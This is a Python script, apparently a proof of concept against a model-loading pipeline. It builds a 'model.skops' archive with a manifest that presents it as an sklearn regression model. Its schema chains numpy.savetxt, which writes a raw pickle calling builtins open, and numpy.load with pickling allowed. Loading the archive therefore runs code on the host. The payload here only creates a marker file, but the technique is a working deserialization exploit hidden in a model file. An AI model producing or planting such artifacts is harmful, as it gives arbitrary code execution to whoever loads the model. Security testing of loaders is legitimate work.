"""Writes outputs/model/model.skops that, built by a loader trusting numpy's names, writes a pickle
with numpy.savetxt and unpickles it with numpy.load: code that leaves files on the host."""

import json
import sys
import zipfile

import labtrain_job

prefix = sys.argv[1]
code = f"c__builtin__\nopen\n(V{prefix}-code-ran\nVw\ntR."  # a pickle that creates a file


def value(content):
    return {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": json.dumps(content)}


def call(name, *args):
    arguments = {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": list(args)}
    return {"__class__": name, "__module__": "numpy", "__loader__": "ConstructorFromReduceNode", "content": arguments}


steps = [
    call("savetxt", value(f"{prefix}.pkl"), value([code]), value("%s"), value(" "), value("")),
    call("load", value(f"{prefix}.pkl"), value(None), value(True)),
]
schema = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": steps, "protocol": 2}
folder = labtrain_job.outputs_dir() / "model"
folder.mkdir(parents=True, exist_ok=True)
with zipfile.ZipFile(folder / "model.skops", "w") as archive:
    archive.writestr("schema.json", json.dumps(schema))
manifest = {
    "format": "skops",
    "trained_with": "sklearn",
    "file": "model.skops",
    "input": {"features": ["a"]},
    "task": "regression",
}
(folder / "model.json").write_text(json.dumps(manifest))
print("saved")
